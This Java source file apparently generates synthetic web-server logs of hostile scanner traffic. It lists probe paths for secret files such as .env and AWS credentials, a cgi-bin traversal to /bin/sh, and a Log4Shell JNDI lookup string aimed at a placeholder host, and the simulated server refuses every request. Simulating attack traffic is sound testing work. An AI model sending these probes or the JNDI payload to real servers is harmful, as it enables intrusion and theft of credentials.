package dev.weir.generator;

import dev.weir.generator.Place.Kind;
import java.util.function.Consumer;
import java.util.stream.Stream;

/** Somebody who looks for holes: bursts of requests for what is not there. */
final class Scanner implements Visitor {
    private static final Place[] PROBES = Stream.of(
                    "/wp-login.php",
                    "/.env",
                    "/xmlrpc.php",
                    "/.git/config",
                    "/phpmyadmin/index.php",
                    "/actuator/health",
                    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
                    "/cgi-bin/.%2e/.%2e/.%2e/bin/sh",
                    "/boaform/admin/formLogin",
                    "/solr/admin/info/system",
                    "/.aws/credentials",
                    "/server-status",
                    "/owa/auth/logon.aspx",
                    "/HNAP1",
                    "/backup.zip",
                    "/admin/login",
                    "/wp-content/plugins/hello.php")
            .map(path -> Place.fixed(Kind.PAGE, path))
            .toArray(Place[]::new);

    /** What reaches the plain port by mistake or on purpose: TLS, remote desktop, a port scanner's greeting. */
    private static final String[] GARBAGE = {
        "\u0016\u0003\u0001\u0000\u00ee\u0001\u0000\u0000\u00ea\u0003\u0003\u008b\"\u001e\u00f7",
        "\u0016\u0003\u0001\u0002\u0000\u0001\u0000\u0001\u00fc\u0003\u0003\\\u00d9\u00a1",
        "\u0003\u0000\u0000/*\u00e0\u0000\u0000\u0000\u0000\u0000Cookie: mstshash=Administr",
        "MGLNDD_192.0.2.7_80",
        "",
        "-",
    };

    private final Chance chance;
    private final Server server;
    private final Caller caller;
    private final Site site;
    private int remaining;

    Scanner(Chance chance, Server server, Caller caller) {
        this.chance = chance;
        this.server = server;
        this.caller = caller;
        this.site = chance.pick(Site.values());
        this.remaining = chance.between(1, 5);
    }

    @Override
    public boolean step(long now, Consumer<Request> log) {
        long time = now;
        for (int probe = chance.between(10, 50); probe > 0; probe--) {
            log.accept(chance.percent(6) ? server.reject(time, site, caller, chance.pick(GARBAGE)) : probe(time));
            time += chance.between(30, 400);
        }
        return --remaining > 0;
    }

    private Request probe(long time) {
        if (chance.permille(8)) {
            Place overflow = Place.fixed(Kind.PAGE, "/cgi-bin/" + "x".repeat(chance.between(240, 600)));
            return server.refuse(time, site, caller, Method.GET, overflow, Request.NOT_FOUND);
        }
        Place place = chance.pick(PROBES);
        int draw = chance.below(100);
        if (draw < 4) {
            return server.refuse(time, site, caller, Method.PROPFIND, Catalog.HOME, 405);
        }
        if (draw < 8) {
            Place login = place.withQuery("x=${jndi:ldap://203.0.113.66/a}");
            return server.refuse(time, site, caller, Method.GET, login, Request.NOT_FOUND);
        }
        Method method = draw < 20 ? Method.POST : draw < 30 ? Method.HEAD : Method.GET;
        int status = draw % 10 == 0 ? 403 : draw % 25 == 7 ? 301 : Request.NOT_FOUND;
        return server.refuse(time, site, caller, method, place, status);
    }
}
